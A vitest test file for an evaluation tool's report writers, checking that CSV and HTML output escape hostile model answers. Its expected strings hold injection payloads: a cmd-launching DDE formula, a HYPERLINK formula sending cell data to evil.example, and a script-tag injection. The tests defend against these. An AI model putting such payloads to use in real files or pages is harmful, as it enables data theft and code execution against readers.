import { describe, expect, it } from 'vitest';
import { makeEmptyReport, makeFixtureReport, makeNullReport } from '../../test/fixtures/fixture-report.ts';
import type { Reporter } from '../types/plugs.ts';
import type { RunReport } from '../types/report.ts';
import { InputError } from '../util/errors.ts';
import { REPORTERS } from './registry.ts';

const plain = deepFreeze(makeFixtureReport({ samples: 60 }));
const hostile = deepFreeze(makeFixtureReport({ samples: 42, hostile: true }));
const reports: readonly (readonly [string, RunReport])[] = [
  ['a plain run', plain],
  [
    'a streamed run over two datasets',
    makeFixtureReport({ samples: 45, streamed: true, datasets: ['a', 'b'] }),
  ],
  ['hostile output', hostile],
  ['a run in which nothing was measured', deepFreeze(makeNullReport())],
  ['a run without cells', deepFreeze(makeEmptyReport())],
];

function deepFreeze<T>(value: T): T {
  if (typeof value === 'object' && value !== null && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const entry of Object.values(value)) deepFreeze(entry);
  }
  return value;
}

/** Files as text; bytes as one character each, so that they compare too. */
function files(reporter: Reporter, report: RunReport): Record<string, string> {
  return Object.fromEntries(
    rendered(reporter, report).map(({ file, chunks }) => [
      file,
      [...chunks]
        .map((chunk) => (typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('latin1')))
        .join(''),
    ]),
  );
}

/** A reporter for publishing may refuse a run, but never a plain one; what it refuses is its own test's. */
function rendered(reporter: Reporter, report: RunReport): ReturnType<Reporter['render']> {
  if (!reporter.realServersOnly || report === plain) return reporter.render(report);
  try {
    return reporter.render(report);
  } catch (error) {
    if (!(error instanceof InputError)) throw error;
    return [];
  }
}

/** Formats of bytes: what holds for text does not hold for them. */
const BYTES = /\.parquet$/;

function texts(reporter: Reporter, report: RunReport): string[] {
  return Object.entries(files(reporter, report)).flatMap(([file, text]) => (BYTES.test(file) ? [] : [text]));
}

it('each file belongs to the reporter that makes it, and to no other', () => {
  for (const [, report] of reports) {
    for (const reporter of Object.values<Reporter>(REPORTERS)) {
      for (const { file } of rendered(reporter, report)) {
        const owners = Object.values<Reporter>(REPORTERS).filter(({ owns }) => owns.test(file));
        expect(
          owners.map(({ name }) => name),
          file,
        ).toEqual([reporter.name]);
      }
    }
  }
  const owned = (file: string) => Object.values<Reporter>(REPORTERS).some(({ owns }) => owns.test(file));
  for (const file of [
    'journal.jsonl',
    'manifest.json',
    'baseline.json',
    'model-card/notes.md',
    'old/summary.csv',
    'summary.csv.bak',
  ])
    expect(owned(file), file).toBe(false);
  expect(owned('report-more.json')).toBe(true);
});

it('goes by the names that --reporter takes', () => {
  expect(Object.keys(REPORTERS)).toEqual([
    'json',
    'csv',
    'html',
    'junit',
    'markdown',
    'parquet',
    'prometheus',
    'model-card',
  ]);
});

it('writes by default what a run folder is said to hold, and the rest when asked', () => {
  const usual = Object.values<Reporter>(REPORTERS).filter(({ byDefault }) => byDefault);
  expect(usual.map(({ name }) => name)).toEqual(['json', 'csv', 'html', 'junit', 'markdown']);
});

describe.each(Object.entries(REPORTERS))('reporter %s', (name, reporter) => {
  it('has the name it is registered under', () => {
    expect(reporter.name).toBe(name);
  });

  it.each(reports)('renders %s, the same twice, and leaves the report as it was', (_, report) => {
    const first = files(reporter, report);
    expect(files(reporter, report)).toEqual(first);
    for (const [file, text] of Object.entries(first)) {
      expect(file).toMatch(
        /^(model-card\/[^/]+\/(\.eval_results\/)?)?[a-z-]+\.(json|csv|html|xml|md|parquet|prom|yaml)$/,
      );
      expect(text.length, file).toBeGreaterThan(0);
      expect(text.endsWith(BYTES.test(file) ? 'PAR1' : '\n'), file).toBe(true);
    }
    if (report === plain) expect(Object.keys(first)).not.toEqual([]);
  });

  it.each(reports)('writes no NaN, undefined or [object Object] for %s', (_, report) => {
    for (const text of texts(reporter, report)) {
      const written = text.replace(/<script>[\s\S]*?<\/script>/, '');
      expect(/\bNaN\b|\bundefined\b|\[object Object\]/.exec(written)?.[0] ?? null).toBeNull();
    }
  });

  it('writes text that survives UTF-8, whatever the model said', () => {
    for (const text of texts(reporter, hostile)) {
      expect(Buffer.from(text, 'utf8').toString('utf8')).toBe(text);
    }
  });
});

it('json carries the whole report, but no copies of pictures', () => {
  for (const report of [hostile, makeEmptyReport()]) {
    const text = files(REPORTERS.json, { ...report, media: { a: 'data:,' } })['report.json'] ?? '';
    const { media: _, ...rest } = report;
    expect(JSON.parse(text)).toEqual(JSON.parse(JSON.stringify(rest)));
  }
});

it('csv keeps hostile answers whole inside their cell, and starts none with a formula', () => {
  const text = files(REPORTERS.csv, hostile)['requests.csv'] ?? '';
  expect(text).toContain(`,'+1+cmd|' /C calc'!A0,'+1+cmd|' /C calc'!A0,false\n`);
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  expect(text).toContain('"\'\rCarriage return first"');
  expect(text).not.toContain('\0');
});

it('html lets no hostile text out of its place', () => {
  const page = files(REPORTERS.html, hostile)['report.html'] ?? '';
  expect(page.match(/<script/g)).toHaveLength(2);
  expect(page.match(/<\/script/g)).toHaveLength(2);
  expect(page).not.toContain('<img');
  for (const character of ['\0', '\u001b', '\u202E', '\u2028', '\u2029']) {
    expect(page.includes(character)).toBe(false);
  }
  expect(page).toContain('billing &lt;script&gt;document.title&#x3D;&quot;owned&quot;&lt;/script&gt;');
});

it('html refers to nothing outside itself', () => {
  const page = files(REPORTERS.html, plain)['report.html'] ?? '';
  expect(page).toContain(
    `content="default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; img-src data:`,
  );
  expect(page.match(/\b(?:src|href|action|srcset)="(?!#)[^"]*"/g)).toBeNull();
  expect(page).not.toMatch(/@import|url\(/);
});
